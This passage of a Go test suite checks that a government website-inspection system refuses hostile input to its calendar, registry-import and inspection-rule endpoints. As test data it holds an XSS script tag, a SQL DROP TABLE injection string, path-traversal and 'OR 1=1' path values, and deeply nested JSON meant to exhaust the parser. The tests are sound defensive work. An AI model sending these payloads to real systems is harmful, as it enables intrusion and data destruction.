	if err := w.Store.SQLDB().QueryRow(`SELECT (SELECT COUNT(*) FROM registry_events),
		(SELECT COUNT(*) FROM units WHERE review_required = ?)`, false).Scan(&n, &settings); err != nil {
		w.t.Fatal(err)
	}
	return fmt.Sprintf("%d/%s", n, settings)
}

// hostileCalendarAttacks are section 20's requests (the calendar across the new year).
func hostileCalendarAttacks() []attack {
	var out []attack
	day := func(date string) string { return `{"name": "元旦", "date": "` + date + `", "isOffDay": true}` }
	notices := map[string]string{
		"year 1999":              `{"year": 1999, "days": [` + day("1999-01-01") + `]}`,
		"year 2200":              `{"year": 2200, "days": [` + day("2200-01-01") + `]}`,
		"year as text":           `{"year": "2027", "days": [` + day("2027-01-01") + `]}`,
		"negative year":          `{"year": -2027, "days": [` + day("2027-01-01") + `]}`,
		"days of another year":   `{"year": 2027, "days": [` + day("2031-01-01") + `]}`,
		"duplicate dates":        `{"year": 2027, "days": [` + day("2027-01-01") + `, ` + day("2027-01-01") + `]}`,
		"a date that is no date": `{"year": 2027, "days": [` + day("2027-02-30") + `]}`,
		"a date without zeros":   `{"year": 2027, "days": [` + day("2027-1-1") + `]}`,
		"no isOffDay":            `{"year": 2027, "days": [{"name": "元旦", "date": "2027-01-01"}]}`,
		"a script for a name":    `{"year": 2027, "days": [{"name": "<script>alert(1)</script>` + strings.Repeat("节", 40) + `", "date": "2027-01-01", "isOffDay": true}]}`,
		"malformed JSON":         `{"year": 2027, "days": [` + day("2027-01-01") + `,]}`,
		"truncated JSON":         `{"year": 2027, "days": [` + day("2027-01-01"),
		"not an object":          `"2027"`,
		"nested too deep":        strings.Repeat("[", 100000) + strings.Repeat("]", 100000),
		"huge file":              `{"year": 2027, "papers": ["` + strings.Repeat("x", 1<<20) + `"], "days": [` + day("2027-01-01") + `]}`,
		"invalid UTF-8":          "{\"year\": 2027, \"days\": [{\"name\": \"\xff\xfe\", \"date\": \"2027-01-01\", \"isOffDay\": true}]}",
	}
	for name, body := range notices {
		out = append(out, attack{name: "calendar notice " + name, refuse: true, check: calendarAsShipped, send: func(w *hostileWorld) (*http.Response, string) {
			return w.send(w.adminPages, w.noticeUpload(body))
		}})
	}
	for _, date := range []string{"2025-02-30", "2025-13-01", "9999-01-01", "1900-01-01", "2025/03/26", "'; DROP TABLE calendar_days; --", "", "2025-03-26\x00", strings.Repeat("2", 5000)} {
		out = append(out, attack{name: "calendar day " + date[:min(len(date), 40)], refuse: true, check: calendarAsShipped, send: func(w *hostileWorld) (*http.Response, string) {
			v := url.Values{"day": {date}, "kind": {"off"}, "name": {"测试"}}
			return w.send(w.adminPages, w.formRequest("POST", "/admin/calendar/day", v, "same-origin"))
		}})
	}
	for _, kind := range []string{"", "holiday", "off\x00", "<b>off</b>"} {
		out = append(out, attack{name: "calendar day kind " + kind, refuse: true, check: calendarAsShipped, send: func(w *hostileWorld) (*http.Response, string) {
			v := url.Values{"day": {"2025-03-26"}, "kind": {kind}}
			return w.send(w.adminPages, w.formRequest("POST", "/admin/calendar/day", v, "same-origin"))
		}})
	}
	out = append(out, attack{name: "calendar notice from unit staff", refuse: true, check: calendarAsShipped, send: func(w *hostileWorld) (*http.Response, string) {
		return w.send(w.staffPages, w.noticeUpload(`{"year": 2025, "days": [`+day("2025-03-26")+`]}`))
	}})
	return out
}

// noticeUpload is the calendar page's import form with body as the file.
func (w *hostileWorld) noticeUpload(body string) *http.Request {
	var buf bytes.Buffer
	mw := multipart.NewWriter(&buf)
	fw, _ := mw.CreateFormFile("file", "notice.json")
	io.WriteString(fw, body)
	mw.Close()
	req, err := http.NewRequest(http.MethodPost, w.URL+"/admin/calendar/import", &buf)
	if err != nil {
		w.t.Fatal(err)
	}
	req.Header.Set("Content-Type", mw.FormDataContentType())
	req.Header.Set("Sec-Fetch-Site", "same-origin")
	return req
}

// calendarAsShipped checks the calendar holds the shipped years only, no day changed by hand, no
// change but the shipped imports, and the 国资委 ticket's deadline as counted at its arrival.
func calendarAsShipped(w *hostileWorld, _ *http.Response, _ string) error {
	var manual, changes, years int
	var deadline time.Time
	db := w.Store.SQLDB()
	if err := db.QueryRow(`SELECT (SELECT COUNT(*) FROM calendar_days WHERE source = 'manual'), (SELECT COUNT(*) FROM calendar_changes),
		(SELECT COUNT(*) FROM calendar_years)`).Scan(&manual, &changes, &years); err != nil {
		return err
	}
	if err := db.QueryRow(`SELECT deadline FROM tickets WHERE ticket_no = ?`, w.gzwNo).Scan(&deadline); err != nil {
		return err
	}
	if manual != 0 || changes != years {
		return fmt.Errorf("the calendar changed: %d manual days, %d changes for %d years", manual, changes, years)
	}
	if got := models.DateOf(deadline).String(); got != "2025-03-28" {
		return fmt.Errorf("the ticket's deadline moved to %s", got)
	}
	return nil
}

// adminToken is an administrator's API token, asked for once.
func (w *hostileWorld) adminToken() string {
	if w.adminAPIToken == "" {
		w.adminAPIToken = w.apiLogin("admin")
	}
	return w.adminAPIToken
}

// siteID is the id of the website holding host, as text.
func (w *hostileWorld) siteID(host string) string {
	var id int64
	if err := w.Store.SQLDB().QueryRow("SELECT website_id FROM website_bases WHERE host = ?", host).Scan(&id); err != nil {
		w.t.Fatalf("site of %s: %v", host, err)
	}
	return strconv.FormatInt(id, 10)
}

// siteJSON is the website holding host as the admin API's PUT takes it.
func (w *hostileWorld) siteJSON(host string) string {
	resp, body := w.send(w.anon, w.jsonRequest("GET", "/api/v1/admin/websites/"+w.siteID(host), w.adminToken(), ""))
	var site struct {
		Name           string   `json:"name"`
		IdentifierCode string   `json:"identifier_code"`
		Kind           string   `json:"kind"`
		UnitID         int64    `json:"unit_id"`
		Bases          []string `json:"bases"`
	}
	if resp.StatusCode != 200 || json.Unmarshal([]byte(body), &site) != nil {
		w.t.Fatalf("site %s: %d %s", host, resp.StatusCode, body)
	}
	out, _ := json.Marshal(site)
	return string(out)
}

// registryFingerprint is the registry's websites, bases, units and events, to compare.
func (w *hostileWorld) registryFingerprint() string {
	var out strings.Builder
	for _, q := range []string{
		"SELECT COUNT(*) FROM registry_events",
		"SELECT COUNT(*) FROM units WHERE status = 'active'",
		"SELECT COUNT(*) FROM websites WHERE status = 'running'",
		"SELECT COUNT(*) FROM website_bases",
		"SELECT name FROM websites WHERE id = (SELECT website_id FROM website_bases WHERE host = 'sc.gov.cn')",
	} {
		var v string
		if err := w.Store.SQLDB().QueryRow(q).Scan(&v); err != nil {
			w.t.Fatalf("%s: %v", q, err)
		}
		out.WriteString(v + "|")
	}
	return out.String()
}

// registryUpload is the registry import page's form with one file (section 18).
func (w *hostileWorld) registryUpload(name string, data []byte) *http.Request {
	var buf bytes.Buffer
	mw := multipart.NewWriter(&buf)
	fw, _ := mw.CreateFormFile("file", name)
	fw.Write(data)
	mw.Close()
	req, _ := http.NewRequest("POST", w.URL+"/admin/registry/import", &buf)
	req.Header.Set("Content-Type", mw.FormDataContentType())
	req.Header.Set("Sec-Fetch-Site", "same-origin")
	return req
}

// registryImportedNothing: no registry import was kept as a plan or written (section 18).
func (w *hostileWorld) registryImportedNothing() error {
	var plans, events, users int64
	db := w.Store.SQLDB()
	db.QueryRow("SELECT COUNT(*) FROM registry_imports").Scan(&plans)
	db.QueryRow("SELECT COUNT(*) FROM registry_events WHERE source = 'import'").Scan(&events)
	db.QueryRow("SELECT COUNT(*) FROM users WHERE username = 'zc-hostile'").Scan(&users)
	if plans+events+users != 0 {
		return fmt.Errorf("a refused import kept %d plans, wrote %d events and %d users", plans, events, users)
	}
	return nil
}

// registryAPIUpload is the registry import API's multipart upload with one file (section 22).
func (w *hostileWorld) registryAPIUpload(token, name string, data []byte) *http.Request {
	req := w.registryUpload(name, data)
	req.URL.Path = "/api/v1/admin/registry/imports"
	req.Header.Del("Sec-Fetch-Site")
	req.Header.Set("Authorization", "Bearer "+token)
	return req
}

// roleToken is the API token of a demo user, asked for once (section 22).
func (w *hostileWorld) roleToken(username string) string {
	if w.tokens22 == nil {
		w.tokens22 = map[string]string{}
	}
	if w.tokens22[username] == "" {
		w.tokens22[username] = w.apiLogin(username)
	}
	return w.tokens22[username]
}

// foreignPlan is a checked import of another administrator (zc-admin-22, made with the world),
// made the first time an attack needs it: after section 18, whose attacks check that no plan
// is kept (section 22).
func (w *hostileWorld) foreignPlan() string {
	if w.plan22 == 0 {
		other, err := w.Store.RegistryAdmin(w.t.Context(), "zc-admin-22")
		if err != nil {
			w.t.Fatal(err)
		}
		rows := [][]string{{"用户名", "姓名", "角色", "所属单位"}, {"zc-hostile-22", "甲", "经办人", "四川省教育厅"}}
		plan, err := w.Store.PlanRegistryImport(w.t.Context(), other, "用户.csv", []registrysheet.Sheet{{Name: "用户.csv", Rows: rows}})
		if err != nil || plan.ID == 0 {
			w.t.Fatalf("another admin's plan: %+v %v", plan, err)
		}
		w.plan22 = plan.ID
	}
	return strconv.FormatInt(w.plan22, 10)
}

// foreignPlanKept: the answer is status (0: any 4xx) in JSON with a Chinese error, the other
// administrator's plan is still waiting, and nothing was imported (section 22).
func foreignPlanKept(status int) func(*hostileWorld, *http.Response, string) error {
	return func(w *hostileWorld, resp *http.Response, body string) error {
		if err := apiRefusal(status, "")(w, resp, body); err != nil {
			return err
		}
		var st string
		var users, events int64
		db := w.Store.SQLDB()
		if w.plan22 != 0 {
			if err := db.QueryRow("SELECT status FROM registry_imports WHERE id = ?", w.plan22).Scan(&st); err != nil || st != "planned" {
				return fmt.Errorf("the other admin's plan is %q (%v)", st, err)
			}
		}
		db.QueryRow("SELECT COUNT(*) FROM users WHERE username IN ('zc-hostile', 'zc-hostile-22')").Scan(&users)
		db.QueryRow("SELECT COUNT(*) FROM registry_events WHERE source = 'import'").Scan(&events)
		if users+events != 0 {
			return fmt.Errorf("a refused confirmation wrote %d users and %d events", users, events)
		}
		return nil
	}
}

// apiRefusal: the answer is status (0: any 4xx), JSON with a Chinese error saying reason, and
// no import was kept or written (section 22; before the other admin's plan exists).
func apiRefusal(status int, reason string) func(*hostileWorld, *http.Response, string) error {
	return func(w *hostileWorld, resp *http.Response, body string) error {
		var m struct {
			Error string `json:"error"`
		}
		if status != 0 && resp.StatusCode != status {
			return fmt.Errorf("status %d, want %d: %.300s", resp.StatusCode, status, body)
		}
		if err := json.Unmarshal([]byte(body), &m); err != nil || !hasHan(m.Error) || !strings.Contains(body, reason) {
			return fmt.Errorf("not a Chinese JSON error saying %q: %.300s", reason, body)
		}
		if w.plan22 == 0 {
			return w.registryImportedNothing()
		}
		return nil
	}
}

// hostileInspectionRuleAttacks are section 25's requests (inspection rule entries).
func hostileInspectionRuleAttacks(texts []string) []attack {
	var out []attack
	var before [2]int64
	entries := func(w *hostileWorld) [2]int64 {
		var n [2]int64
		db := w.Store.SQLDB()
		if err := db.QueryRow("SELECT COUNT(*) FROM inspection_rules").Scan(&n[0]); err != nil {
			w.t.Fatal(err)
		}
		if err := db.QueryRow("SELECT COUNT(*) FROM registry_events WHERE entity = ?", models.RegistryInspectionRule).Scan(&n[1]); err != nil {
			w.t.Fatal(err)
		}
		return n
	}
	post := func(c func(w *hostileWorld) *http.Client, path string, v url.Values, site string) func(w *hostileWorld) (*http.Response, string) {
		return func(w *hostileWorld) (*http.Response, string) {
			before = entries(w)
			return w.send(c(w), w.formRequest("POST", path, v, site))
		}
	}
	admin := func(w *hostileWorld) *http.Client { return w.adminPages }
	// kept: a refusal in Chinese, nothing added or changed.
	kept := func(status int) func(*hostileWorld, *http.Response, string) error {
		return func(w *hostileWorld, resp *http.Response, body string) error {
			if status != 0 && resp.StatusCode != status {
				return fmt.Errorf("status %d, want %d", resp.StatusCode, status)
			}
			if resp.StatusCode != http.StatusSeeOther && !hasHan(body) {
				return fmt.Errorf("no Chinese message: %.300s", body)
			}
			if after := entries(w); after != before {
				return fmt.Errorf("entries and events %v → %v", before, after)
			}
			return nil
		}
	}
	// shownAsText: an accepted entry is listed, its words escaped.
	shownAsText := func(payload string) func(*hostileWorld, *http.Response, string) error {
		return func(w *hostileWorld, resp *http.Response, body string) error {
			if resp.StatusCode >= 400 {
				return kept(0)(w, resp, body)
			}
			r, _ := http.NewRequest("GET", w.URL+"/admin/inspection/rules", nil)
			_, page := w.send(w.adminPages, r)
			if strings.ContainsAny(payload, "<>\"'") && strings.Contains(page, payload) {
				return fmt.Errorf("the entry %q is in the list unescaped", payload)
			}
			return nil
		}
	}
	for i, text := range texts {
		for _, field := range []string{"phrase", "correct", "exceptions"} {
			v := url.Values{"kind": {models.RuleWording}, "phrase": {fmt.Sprintf("敌对词%d%s", i, field)}, "correct": {"规范表述"}}
			v.Set(field, text)
			out = append(out, attack{name: "inspection rule with " + field + " " + text, payload: text,
				send: post(admin, "/admin/inspection/rules", v, "same-origin"), check: shownAsText(text)})
		}
	}
	good := url.Values{"kind": {models.RuleTypo}, "phrase": {"示范事"}, "correct": {"示范市"}}
	for _, bad := range []struct {
		name string
		v    url.Values
	}{
		{"an unknown kind", url.Values{"kind": {"protected"}, "phrase": {"示范事"}, "correct": {"示范市"}}},
		{"no kind", url.Values{"phrase": {"示范事"}, "correct": {"示范市"}}},
		{"an empty phrase", url.Values{"kind": {models.RuleTypo}, "phrase": {" "}, "correct": {"示范市"}}},
		{"a phrase of 1000 characters", url.Values{"kind": {models.RuleTypo}, "phrase": {strings.Repeat("错", 1000)}, "correct": {"示范市"}}},
		{"the same forms", url.Values{"kind": {models.RuleTypo}, "phrase": {"示范市"}, "correct": {"示范市"}}},
		{"serious that is no yes or no", url.Values{"kind": {models.RuleWording}, "phrase": {"某某国"}, "correct": {"某某"}, "serious": {"maybe"}}},
		{"a leader's date that is no date", url.Values{"kind": {models.RuleLeader}, "phrase": {"张三丰"}, "correct": {"国务院副总理"}, "valid_from": {"2026-02-30"}}},
		{"a leader's term ending first", url.Values{"kind": {models.RuleLeader}, "phrase": {"张三丰"}, "correct": {"国务院副总理"},
			"valid_from": {"2026-03-12"}, "valid_to": {"2020-01-01"}}},
		{"a leader's date as a number", url.Values{"kind": {models.RuleLeader}, "phrase": {"张三丰"}, "correct": {"国务院副总理"}, "valid_from": {"1e9"}}},
	} {
		out = append(out, attack{name: "inspection rule with " + bad.name, refuse: true,
			send: post(admin, "/admin/inspection/rules", bad.v, "same-origin"), check: kept(http.StatusBadRequest)})
	}
	out = append(out, attack{name: "inspection rule from another site", refuse: true,
		send: post(admin, "/admin/inspection/rules", good, "cross-site"), check: kept(http.StatusForbidden)})
	out = append(out, attack{name: "inspection rule by a unit's staff", refuse: true,
		send: post(func(w *hostileWorld) *http.Client { return w.staffPages }, "/admin/inspection/rules", good, "same-origin"), check: kept(0)})
	out = append(out, attack{name: "inspection rule without signing in", refuse: true,
		send: post(func(w *hostileWorld) *http.Client { return w.anon }, "/admin/inspection/rules", good, "same-origin"), check: kept(0)})
	out = append(out, attack{name: "inspection rule list by a unit's staff", refuse: true, send: func(w *hostileWorld) (*http.Response, string) {
		r, _ := http.NewRequest("GET", w.URL+"/admin/inspection/rules", nil)
		return w.send(w.staffPages, r)
	}})
	big := url.Values{"kind": {models.RuleTypo}, "phrase": {"示范事"}, "correct": {"示范市"}, "exceptions": {strings.Repeat("例外|", 300000)}}
	out = append(out, attack{name: "inspection rule of a 1.8 MB form", refuse: true,
		send: post(admin, "/admin/inspection/rules", big, "same-origin"), check: kept(http.StatusRequestEntityTooLarge)})
	for _, path := range []string{"0/disable", "-1/disable", "99999999/disable", "abc/disable", "1e3/enable", "1%20OR%201=1/disable",
		strings.Repeat("9", 40) + "/disable", "1/delete", "1/..%2fdisable"} {
		out = append(out, attack{name: "inspection rule " + path, refuse: true,
			send: post(admin, "/admin/inspection/rules/"+path, url.Values{}, "same-origin"), check: kept(0)})
	}
	out = append(out, attack{name: "inspection rule disabled from another site", refuse: true,
		send: post(admin, "/admin/inspection/rules/1/disable", url.Values{}, "cross-site"), check: kept(http.StatusForbidden)})
	return out
}
